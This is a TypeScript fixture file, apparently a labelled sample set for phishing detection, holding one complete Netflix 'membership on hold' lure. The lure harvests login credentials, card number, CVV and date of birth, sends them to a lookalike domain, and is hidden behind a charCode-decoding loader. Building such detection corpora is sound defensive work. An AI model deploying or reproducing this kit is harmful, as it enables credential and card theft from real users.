// Consumer-brand kits reported by staff to the abuse desk: streaming and government refund lures (author zz).
import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { doc, codes, FONT } from '../parts/zz-kit.js';

export const entries: Entry[] = [
(() => {
  const page = doc({
    title: 'Netflix',
    head: `<style>body{margin:0;background:#000 linear-gradient(rgba(0,0,0,.55),rgba(0,0,0,.85));font-family:"Netflix Sans","Helvetica Neue",Helvetica,Arial,sans-serif;color:#fff;min-height:100vh}
.lg{color:#e50914;font:900 34px Arial;letter-spacing:-1px;padding:20px 46px}.bx{width:380px;margin:20px auto;background:rgba(0,0,0,.75);border-radius:4px;padding:50px 58px}
h1{font-size:30px;margin:0 0 24px}input{width:100%;box-sizing:border-box;background:#333;border:0;border-radius:4px;color:#fff;padding:16px;font-size:15px;margin-bottom:14px}
button{width:100%;background:#e50914;color:#fff;border:0;border-radius:4px;padding:14px;font-size:16px;font-weight:700;cursor:pointer}.n{background:#e87c03;border-radius:4px;padding:10px 14px;font-size:14px;margin-bottom:18px}
.r{display:flex;gap:10px}.r input{flex:1}</style>`,
    body: `<div class="lg">NETFLIX</div><div class="bx">
<div id="a"><h1>Sign In</h1><div class="n">Your membership is on hold. We were unable to process your last payment. Sign in to update your payment details.</div>
<input id="e" placeholder="Email or mobile number"><input id="p" type="password" placeholder="Password"><button id="b1">Sign In</button></div>
<div id="b" style="display:none"><h1>Update payment</h1><input id="n" placeholder="Name on card"><input id="c" placeholder="Card number" inputmode="numeric"><div class="r"><input id="x" placeholder="MM/YY"><input id="v" placeholder="CVV"></div><input id="d" placeholder="Date of birth (DD/MM/YYYY)"><button id="b2">Save</button></div></div>
<script>
var o={};function s(){var x=new XMLHttpRequest();x.open('POST','/YourAccount/api/update',true);x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify(o));}
document.getElementById('b1').onclick=function(){o.e=document.getElementById('e').value;o.p=document.getElementById('p').value;if(!o.e||!o.p)return;s();document.getElementById('a').style.display='none';document.getElementById('b').style.display='block';};
document.getElementById('b2').onclick=function(){['n','c','x','v','d'].forEach(function(k){o[k]=document.getElementById(k).value});s();setTimeout(function(){location.href='https://www.netflix.com/browse'},900);};
</script>`,
  });
  return {
    id: 'zz-netflix-hold-charcode-kit',
    label: 'phishing',
    kind: 'streaming-kit',
    url: 'https://netflix-account-hold.com/YourAccount/paymentinfo?locale=en-GB',
    body: `<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"></head><body><script>
var _c=[${codes(page)}];var _s='';for(var _i=0;_i<_c.length;_i+=4096){_s+=String.fromCharCode.apply(null,_c.slice(_i,_i+4096));}
document.open();document.write(_s);document.close();
</script></body></html>`,
    routes: { 'netflix-account-hold.com/YourAccount/api/update': jsonRoute({ ok: 1 }) },
  } satisfies Entry;
})(),
];
